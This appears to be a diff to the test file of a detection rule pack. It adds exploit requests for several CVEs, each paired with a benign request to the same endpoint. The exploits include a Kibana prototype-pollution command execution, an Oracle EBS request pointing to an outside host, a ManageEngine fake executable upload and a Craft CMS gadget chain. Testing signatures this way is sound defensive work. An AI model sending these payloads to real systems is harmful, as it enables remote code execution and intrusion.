@@ -278,6 +278,16 @@ EXPLOITS = [
      b'{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'require(\\"child_process\\").exec(\\"id\\");process.exit()'
      b'//\')\\n.props(label.__proto__.env.NODE_OPTIONS=\'--require /proc/self/environ\')"],"time":{"from":"now-15m",'
      b'"to":"now","mode":"quick","interval":"10s","timezone":"Europe/Berlin"}}'),
+    # stop 20
+    ({"CVE-2025-61882-b"}, "/OA_HTML/configurator/UiServlet", "POST", FORM,
+     b"redirectFromJsp=1&getUiType=%3C%40urlencoded%3E%3C%3Fxml+version%3D%221.0%22%3F%3E%3Cinitialize%3E%3Cparam+"
+     b"name%3D%22return_url%22%3Ehttp%3A%2F%2F203.0.113.7%3A7201%2Fx%3C%2Fparam%3E%3C%2Finitialize%3E%3C%2F%40urlencoded%3E"),
+    ({"CVE-2021-44077"}, "/RestAPI/ImportTechnicians?step=1", "POST", *_mp(("theFile", "msiexec.exe", b"MZ\x90\x00"))),
+    ({"CVE-2021-44077-b"}, "/RestAPI/s247action?execute=s247AgentInstallationProcess&apiKey=x", "POST", [], b""),
+    ({"CVE-2023-41892"}, "/index.php", "POST", FORM,
+     b"action=conditions/render&test[userCondition]=craft%5Celements%5Cconditions%5Cusers%5CUserCondition&config="
+     b"%7B%22name%22%3A%22test%5BuserCondition%5D%22%2C%22as+xyz%22%3A%7B%22class%22%3A%22%5C%5CGuzzleHttp%5C%5CPsr7"
+     b"%5C%5CFnStream%22%2C%22__construct()%22%3A%5B%7B%22close%22%3Anull%7D%5D%2C%22_fn_close%22%3A%22phpinfo%22%7D%7D"),
 ]
 
 # Normal use of the same products, on the same or neighbouring endpoints: the pack must stay silent.
@@ -428,6 +438,14 @@ BENIGN = [
     ("CVE-2025-24893", "/xwiki/bin/get/Main/SolrSearch?media=rss&text=release+notes", "GET", [], b""),
     ("CVE-2019-7609", "/api/timelion/run", "POST", JSON + [("kbn-version", "6.5.4")],
      b'{"sheet":[".es(index=logs-*, metric=avg:bytes).label(\'avg bytes\')"],"time":{"from":"now-15m","to":"now"}}'),
+    # stop 20
+    ("CVE-2025-61882-b", "/OA_HTML/configurator/UiServlet", "POST", FORM,
+     b"getUiType=%3Cinitialize%3E%3Cparam+name%3D%22return_url%22%3E%2FOA_HTML%2FOA.jsp%3C%2Fparam%3E%3C%2Finitialize%3E"),
+    ("CVE-2021-44077", "/RestAPI/ImportTechnicians?step=1", "POST", *_mp(("theFile", "technicians.csv", b"name,email\n"))),
+    ("CVE-2021-44077-b", "/RestAPI/s247action?execute=getAgentStatus", "GET", [], b""),
+    ("CVE-2023-41892", "/index.php", "POST", FORM,
+     b"action=conditions/render&config=%7B%22name%22%3A%22fieldLayout%22%2C%22elementType%22%3A%22craft%5C%5Celements"
+     b"%5C%5CEntry%22%7D"),
 ]
 
 
